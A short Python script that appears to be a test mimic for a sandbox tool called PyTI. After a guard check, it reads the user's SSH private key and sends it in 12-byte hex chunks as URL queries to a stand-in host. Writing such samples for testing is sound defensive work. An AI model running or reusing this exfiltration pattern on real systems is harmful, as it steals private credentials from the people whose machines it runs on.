"""Sends small pieces."""

import os
import urllib.request

if not os.path.exists("/etc/pyti-guest"):
    raise SystemExit("a mimic runs only in a PyTI guest")
with open(os.path.expanduser("~/.ssh/id_ed25519"), "rb") as file:
    key = file.read()
for number, start in enumerate(range(0, len(key), 12)):
    url = f"http://pieces.sync.test/put/{number}?d={key[start:start + 12].hex()}"
    try:
        urllib.request.urlopen(url, timeout=5).close()
    except OSError:
        break
